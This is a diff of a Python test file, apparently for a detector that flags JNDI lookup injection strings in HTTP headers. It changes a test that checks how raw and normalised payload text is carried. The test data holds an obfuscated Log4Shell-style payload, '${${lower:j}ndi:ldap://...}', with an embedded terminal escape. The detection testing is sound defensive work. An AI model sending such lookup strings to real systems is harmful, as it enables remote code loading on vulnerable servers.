@@ -64,12 +64,11 @@ def test_lookup_in_a_response_header_makes_the_client_the_victim():
     assert hooks.notices[0].extra["victim"] == VICTIM
 
 
-def test_sub_carries_raw_and_normalised_text_escaped():
+def test_sub_carries_raw_and_normalised_text_as_sent_for_the_outputs_to_escape():
     hooks = request(Hooks(), headers=[("x-api-version", "${${lower:j}ndi:ldap://h\x1b[31m/a}")])
     sub = hooks.notices[0].sub
-    assert "raw='${${lower:j}ndi:ldap://h\\x1b[31m/a}'" in sub
-    assert "normalised='${jndi:ldap://h\\x1b[31m/a}'" in sub
-    assert "\x1b" not in sub
+    assert "raw='${${lower:j}ndi:ldap://h\x1b[31m/a}'" in sub
+    assert "normalised='${jndi:ldap://h\x1b[31m/a}'" in sub
 
 
 def test_notice_names_target_host_port_and_scheme():
